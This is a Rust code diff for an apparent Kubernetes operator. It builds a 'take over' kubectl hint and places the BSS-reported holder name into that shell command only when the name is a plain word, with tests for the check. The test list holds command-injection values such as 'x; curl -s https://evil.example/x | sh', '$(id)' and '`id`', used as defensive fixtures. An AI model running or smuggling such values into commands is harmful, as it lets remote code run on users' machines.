@@ -30,12 +30,8 @@ pub(in crate::upgrade) fn of_error(error: &BssError, upgrade: &ValidUpgrade) -> 
         ),
         BssError::HeldByAnother { holder } => ready_state(
             Reason::ResellerClaimed,
-            format!("The BSS says that another operator, {holder}, works on this reseller."),
-            format!(
-                "Make sure that the other operator has stopped for good, then take over: kubectl \
-                 annotate tru {} -n {} {TAKE_OVER_ANNOTATION}={holder}",
-                upgrade.name, upgrade.namespace
-            ),
+            format!("The BSS says that another operator, \"{holder}\", works on this reseller."),
+            take_over(holder, upgrade),
         ),
         BssError::Invalid(_) | BssError::Malformed { .. } => ready_state(
             Reason::ContractViolated,
@@ -59,5 +55,76 @@ pub(in crate::upgrade) fn of_error(error: &BssError, upgrade: &ValidUpgrade) -> 
             message,
             "Correct the connection's URL or CA, the Secret's allowed hosts, or the operator's allowed address ranges.",
         ),
+    }
+}
+
+/// How a person takes over. What the BSS calls the holder stands in a command only if no shell could make
+/// anything of it.
+fn take_over(holder: &str, upgrade: &ValidUpgrade) -> String {
+    let stopped = "Make sure that the other operator has stopped for good, then take over:";
+    let ValidUpgrade {
+        name, namespace, ..
+    } = upgrade;
+    if is_plain(holder) {
+        return format!(
+            "{stopped} kubectl annotate tru {name} -n {namespace} {TAKE_OVER_ANNOTATION}='{holder}'"
+        );
+    }
+    format!(
+        "{stopped} set the annotation {TAKE_OVER_ANNOTATION} of the upgrade {name} to what the BSS \
+         calls the holder. It is in the message and not in a command, because it holds characters \
+         that a shell acts on."
+    )
+}
+
+/// Whether a text of a BSS is one plain word.
+fn is_plain(word: &str) -> bool {
+    let plain = |byte: u8| byte.is_ascii_alphanumeric() || b"-._:/@".contains(&byte);
+    let begins = word
+        .bytes()
+        .next()
+        .is_some_and(|first| first.is_ascii_alphanumeric());
+    begins && word.len() <= 128 && word.bytes().all(plain)
+}
+
+/// A word as it stands in the command, for who takes it from there with its quotes.
+pub(in crate::upgrade) fn without_quotes(word: &str) -> &str {
+    let inner = word
+        .strip_prefix('\'')
+        .and_then(|rest| rest.strip_suffix('\''));
+    inner.filter(|inner| is_plain(inner)).unwrap_or(word)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn only_a_plain_word_of_the_bss_stands_in_a_command() {
+        for plain in ["8f2a-77/resellers", "op:1", "a", "A.b_c@d"] {
+            assert!(is_plain(plain), "{plain}");
+            assert_eq!(without_quotes(&format!("'{plain}'")), plain);
+            assert_eq!(without_quotes(plain), plain);
+        }
+        let long = "x".repeat(129);
+        for other in [
+            "",
+            "x; curl -s https://evil.example/x | sh",
+            "$(id)",
+            "`id`",
+            "-n",
+            "a b",
+            "it's",
+            "x\ny",
+            "\u{202e}x",
+            "\u{3b1}",
+            "a\"b",
+            "a&b",
+            "~root",
+            &long,
+        ] {
+            assert!(!is_plain(other), "{other}");
+        }
+        assert_eq!(without_quotes("'a b'"), "'a b'");
     }
 }
